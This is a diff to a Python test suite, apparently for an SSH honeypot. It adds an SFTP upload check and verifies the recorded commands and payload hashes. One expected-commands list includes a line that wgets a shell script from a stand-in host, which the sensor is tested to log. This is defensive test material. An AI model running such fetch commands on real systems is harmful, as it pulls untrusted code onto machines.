@@ -133,6 +133,12 @@ def test_uploads():
     done = start(arguments('-O', '-o', 'PubkeyAuthentication=no', program='scp')
                  + [path, f'{user}@{sensor().address}:/tmp/.s'], password)
     equal((done.wait(60), done.stderr.read()), (0, b''))
+    shared['sftp'] = os.urandom(200001)
+    with open(path, 'wb') as file:
+        file.write(shared['sftp'])
+    done = start(arguments('-s', '-o', 'PubkeyAuthentication=no', program='scp')
+                 + [path, f'{user}@{sensor().address}:/tmp/.t'], password)
+    equal((done.wait(60), done.stderr.read()), (0, b''))
 
 
 def kexinit_of_client():
@@ -252,14 +258,14 @@ def test_records():
                  ('tries', 'again and again', 'password', 'password', 'accepted'))
         equal(len([1 for login in logins if login[0].startswith('many')]), MANY)
         contains(commands, 'echo in the shell', 'exit', 'echo piped', 'false',
-                 'direct-tcpip 192.0.2.9:25', 'cat >/tmp/.u; echo done', 'scp -t /tmp/.s',
+                 'direct-tcpip 192.0.2.9:25', 'cat >/tmp/.u; echo done', 'scp -t /tmp/.s', 'subsystem sftp',
                  'echo one; wget http://192.0.2.7/a.sh; echo -n two > /tmp/f; cat /tmp/f')
         equal(where.sql("SELECT urls FROM command WHERE text LIKE 'echo one%'")[0]['urls'],
               'http://192.0.2.7/a.sh')
         equal({s['hassh'] for s in sessions
                if (s['software'] or '').startswith(('SSH-2.0-OpenSSH', 'SSH-2.0-Slow'))},
               {shared['hassh']})
-        for data in (shared['upload'], shared['scp']):
+        for data in (shared['upload'], shared['scp'], shared['sftp']):
             found = payloads[hashlib.sha256(data).hexdigest()]
             equal((found['size'], bool(found['complete'])), (len(data), True))
     contains([s['request'] for s in sessions], 'GET /')
